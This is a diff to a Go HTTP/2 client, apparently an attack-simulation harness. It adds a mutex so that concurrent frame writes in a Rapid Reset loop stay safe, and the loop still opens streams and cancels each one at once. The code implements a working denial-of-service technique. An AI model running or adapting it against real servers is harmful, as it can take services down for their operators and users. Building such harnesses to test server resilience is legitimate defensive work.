@@ -16,6 +16,7 @@ import (
 // A session is an HTTP/2 connection of an attacker.
 type session struct {
 	conn   net.Conn
+	mu     sync.Mutex // held while the framer writes
 	framer *http2.Framer
 	head   bytes.Buffer
 	hpack  *hpack.Encoder
@@ -45,6 +46,8 @@ func (s *session) open(path string) error {
 		s.hpack.WriteField(f)
 	}
 	s.next += 2
+	s.mu.Lock()
+	defer s.mu.Unlock()
 	return s.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: s.next - 2, BlockFragment: s.head.Bytes(), EndHeaders: true})
 }
 
@@ -56,7 +59,9 @@ func (s *session) drain() {
 			return
 		}
 		if settings, ok := f.(*http2.SettingsFrame); ok && !settings.IsAck() {
+			s.mu.Lock()
 			s.framer.WriteSettingsAck()
+			s.mu.Unlock()
 		}
 	}
 }
@@ -80,7 +85,9 @@ func rapidReset(addr string, d time.Duration, _ float64) error {
 				go s.drain()
 				for tick := time.NewTicker(10 * time.Millisecond); err == nil && ctx.Err() == nil; <-tick.C {
 					if err = s.open("/echo"); err == nil {
+						s.mu.Lock()
 						err = s.framer.WriteRSTStream(s.next-2, http2.ErrCodeCancel)
+						s.mu.Unlock()
 					}
 				}
 				s.conn.Close()
